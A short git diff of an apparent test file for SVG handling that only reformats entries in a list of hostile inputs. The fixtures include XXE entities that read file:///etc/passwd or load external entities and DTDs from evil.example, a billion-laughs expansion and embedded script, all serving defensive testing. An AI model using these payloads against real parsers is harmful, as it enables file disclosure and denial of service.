@@ -15,7 +15,7 @@ const longEntity = `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${svg('&
 const asText: readonly (readonly [why: string, text: string])[] = [
   ['plain', svg('<rect width="8" height="8"/>')],
   ['with a declaration', `<?xml version="1.0" encoding="UTF-8"?>${SCRIPT}`],
-  ['after spaces',  `\n\n   ${SCRIPT}`],
+  ['after spaces', `\n\n   ${SCRIPT}`],
   ['after a comment', `<!-- ${'x'.repeat(2_000)} -->${SCRIPT}`],
   ['after a byte order mark', `\u00ef\u00bb\u00bf${SCRIPT}`],
   ['with a script', SCRIPT],
@@ -32,10 +32,7 @@ const asText: readonly (readonly [why: string, text: string])[] = [
   ['with an embedded picture', svg('<image xlink:href="data:image/png;base64,iVBORw0KGgo="/>')],
   ['that uses itself', svg('<g id="a"><use xlink:href="#a"/></g>')],
   ['with an entity from a file', `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]>${svg('&f;')}`],
-  [
-    'with an external entity',
-    `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>${svg('')}`,
-  ],
+  ['with an external entity', `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>${svg('')}`],
   ['with an external document type', `<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg('')}`],
   ['with a billion laughs', `<!DOCTYPE svg [<!ENTITY l0 "ha">${laughs}]>${svg('&l9;')}`],
   ['with one long laugh', longEntity],
